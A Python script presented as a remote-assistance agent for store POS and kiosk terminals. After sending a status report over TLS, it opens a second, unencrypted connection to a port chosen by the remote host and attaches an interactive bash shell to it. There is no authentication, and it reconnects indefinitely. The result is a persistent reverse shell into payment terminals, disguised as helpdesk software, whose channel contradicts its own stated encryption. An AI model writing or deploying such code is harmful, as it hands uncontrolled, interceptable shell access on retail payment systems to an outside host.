#!/usr/bin/env python3
"""Remote-assistance agent for in-store POS and kiosk terminals.

Store staff start this when the helpdesk asks for a session.  The agent
reports the terminal's status (till id, app version, receipt printer state)
to the support desk over TLS and keeps a console channel open so a support
engineer can look at logs and restart the POS app without driving to the
store.  It reconnects with back-off if the store's uplink drops.
"""
import argparse
import configparser
import json
import logging
import os
import platform
import socket
import ssl
import subprocess
import sys
import threading
import time
from pathlib import Path

log = logging.getLogger("pos_assist")

DEFAULT_CONF = {
    "desk_host": "assist.posdesk-support.net",
    "desk_port": "8443",
    "till_id": platform.node(),
    "pos_app_dir": "/opt/pos",
    "max_backoff": "300",
}


def load_conf(path: str) -> dict:
    cp = configparser.ConfigParser()
    cp["agent"] = DEFAULT_CONF
    cp.read(path)
    return dict(cp["agent"])


def terminal_status(conf: dict) -> dict:
    version_file = Path(conf["pos_app_dir"]) / "VERSION"
    return {
        "till": conf["till_id"],
        "os": platform.platform(),
        "pos_version": version_file.read_text().strip() if version_file.exists() else "unknown",
        "printer": Path("/dev/usb/lp0").exists(),
        "uptime": Path("/proc/uptime").read_text().split()[0] if Path("/proc/uptime").exists() else None,
    }


class ConsoleChannel(threading.Thread):
    """Attach a console on the support connection until the desk hangs up."""

    def __init__(self, conn: socket.socket, workdir: str):
        super().__init__(daemon=True)
        self.conn = conn
        self.workdir = workdir if os.path.isdir(workdir) else os.path.expanduser("~")

    def run(self) -> None:
        fd = self.conn.fileno()
        shell = os.environ.get("SHELL", "/bin/bash")
        proc = subprocess.Popen(
            [shell, "-i"],
            stdin=fd, stdout=fd, stderr=fd,
            cwd=self.workdir,
            env={**os.environ, "TERM": "xterm", "PS1": "pos-assist$ "},
        )
        proc.wait()
        log.info("console closed (exit %s)", proc.returncode)


class Agent:
    def __init__(self, conf: dict):
        self.conf = conf
        self.backoff = 5
        self.ctx = ssl.create_default_context()

    def _connect(self) -> socket.socket:
        raw = socket.create_connection((self.conf["desk_host"], int(self.conf["desk_port"])), timeout=20)
        tls = self.ctx.wrap_socket(raw, server_hostname=self.conf["desk_host"])
        tls.settimeout(None)
        return tls

    def _session(self) -> None:
        conn = self._connect()
        log.info("connected to support desk %s", self.conf["desk_host"])
        hello = json.dumps({"type": "hello", "status": terminal_status(self.conf)}) + "\n"
        conn.sendall(hello.encode())
        # the TLS object cannot be handed to a child process directly,
        # so the console runs over a plain socket on the port the desk sends
        port = conn.recv(16).decode().strip()
        plain = socket.create_connection((self.conf["desk_host"], int(port)), timeout=20)
        plain.settimeout(None)
        channel = ConsoleChannel(plain, self.conf["pos_app_dir"])
        channel.start()
        channel.join()
        plain.close()
        conn.close()

    def run_forever(self) -> None:
        max_backoff = int(self.conf["max_backoff"])
        while True:
            try:
                self._session()
                self.backoff = 5
            except (OSError, ssl.SSLError, ValueError) as exc:
                log.warning("support desk unreachable: %s; retry in %ss", exc, self.backoff)
                time.sleep(self.backoff)
                self.backoff = min(self.backoff * 2, max_backoff)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-c", "--config", default="pos_assist.ini")
    ap.add_argument("--status-only", action="store_true", help="print terminal status and exit")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")
    conf = load_conf(args.config)
    if args.status_only:
        print(json.dumps(terminal_status(conf), indent=2))
        return 0
    try:
        Agent(conf).run_forever()
    except KeyboardInterrupt:
        log.info("assistance ended by store staff")
    return 0


if __name__ == "__main__":
    sys.exit(main())
